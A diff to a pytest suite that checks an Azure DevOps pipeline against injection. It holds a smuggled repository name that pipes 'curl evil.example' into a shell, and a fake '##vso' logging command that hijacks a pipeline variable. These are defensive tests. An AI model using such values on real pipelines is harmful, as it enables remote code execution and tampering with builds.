@@ -81,7 +81,47 @@ def test_the_pipeline_scans_before_it_pushes_inside_the_network_and_deploys_by_d
         "deployment.raise_digest",
         "deployment.propose",
     ]
-    assert '"$(push.digest)"' in commands[-2]
+    assert '"$DIGEST"' in commands[-2]
+    assert job["steps"][-2]["env"] == {"DIGEST": "$(push.digest)"}
+
+
+@pytest.mark.req(102)
+def test_what_an_applications_repository_says_is_no_part_of_a_command() -> None:
+    given = {"environment": "dev", "connection": "dev-images"}
+    honest, tricky = (
+        [
+            step.get("bash") or step["inputs"]["inlineScript"]
+            for stage in expand(PIPELINES / "templates" / "application.yml", given | {"imageRepository": name})[
+                "stages"
+            ]
+            for job in stage["jobs"]
+            for step in job["steps"]
+            if "checkout" not in step
+        ]
+        for name in ("shop/orders", 'x"; curl evil.example | sh; "')
+    )
+
+    assert honest == tricky
+    # Nor what a step before has set: Azure DevOps puts the value of `$(name)` into the text that the shell reads.
+    assert [command for command in honest if "$(" in command] == []
+
+
+@pytest.mark.req(102)
+def test_what_a_build_and_an_image_print_is_no_command_to_the_agent(
+    calls: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
+) -> None:
+    """See https://learn.microsoft.com/azure/devops/pipelines/scripts/logging-commands."""
+    trick = "#8 0.2 ##vso[task.setvariable variable=REGISTRY]evil"
+    for tool in ("docker", "trivy"):
+        (calls.parent / tool).write_text(f"#!/bin/sh\necho '{trick}'\necho '{trick}' >&2\n")
+    monkeypatch.setenv("TF_BUILD", "True")
+
+    image.build("crshop", REFERENCE, "../application")
+    image.scan("crshop", REFERENCE)
+
+    said = capfd.readouterr()
+    assert "##vso[" not in said.out + said.err
+    assert said.out.count("## vso[task.setvariable variable=REGISTRY]evil") == 4
 
 
 def test_a_digest_is_raised_and_nothing_else_is_touched() -> None:
